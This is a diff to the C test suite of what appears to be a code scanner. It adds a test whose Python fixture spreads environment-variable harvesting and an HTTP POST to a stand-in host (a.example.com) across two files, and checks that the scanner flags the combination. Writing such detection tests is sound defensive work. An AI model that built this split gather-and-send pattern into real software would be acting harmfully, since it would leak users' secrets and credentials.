@@ -278,6 +278,34 @@ TEST(quoted_and_labelled_fences_keep_their_places)
 	pan_arena_free(s);
 }
 
+TEST(one_file_gathers_and_another_sends_to_a_constant_of_its_class)
+{
+	static const char *const file[] = {
+		"import os\nclass C:\n    def env(self):\n        out = {}\n"
+		"        for k, v in os.environ.items():\n            out[k] = v\n"
+		"        return out\n",
+		"import requests\nclass R:\n    URL = 'https://a.example.com/c'\n"
+		"    def send(self, x):\n        requests.post(self.URL, json={'d': x})\n"
+	};
+	struct pan_arena *a = pan_arena_new((size_t)64 << 20);
+	struct pan_arena *scratch = pan_arena_new((size_t)64 << 20);
+	struct pan_findings fs = { .arena = a };
+	struct pan_flow_facts facts = { 0 };
+	struct pan_doc doc[2] = { { .path = "c.py", .kind = PAN_DOC_PYTHON },
+		{ .path = "r.py", .kind = PAN_DOC_PYTHON } };
+
+	for (int i = 0; i < 2; i++) {
+		doc[i].text = doc[i].raw = pan_str(file[i]);
+		CHECK_INT(pan_flow_collect(&doc[i], scratch, &fs, &facts), PAN_OK);
+	}
+	CHECK_INT(fs.n, 0); /* neither says anything alone */
+	pan_flow_join(&facts, &fs);
+	CHECK_INT(fs.n, 1);
+	CHECK(fs.n == 1 && fs.item[0].doc == &doc[0]);
+	pan_arena_free(a);
+	pan_arena_free(scratch);
+}
+
 TEST(every_language_is_linear_in_its_text)
 {
 	static const char *const unit[] = { "a(", "[", "{", "f\"{", "`${", "x=>", "\"",
@@ -347,6 +375,7 @@ main(void)
 	RUN(reassuring_words_change_nothing);
 	RUN(a_staged_install_is_seen);
 	RUN(quoted_and_labelled_fences_keep_their_places);
+	RUN(one_file_gathers_and_another_sends_to_a_constant_of_its_class);
 	RUN(every_language_is_linear_in_its_text);
 	RUN(survives_any_failed_allocation);
 	return DONE();
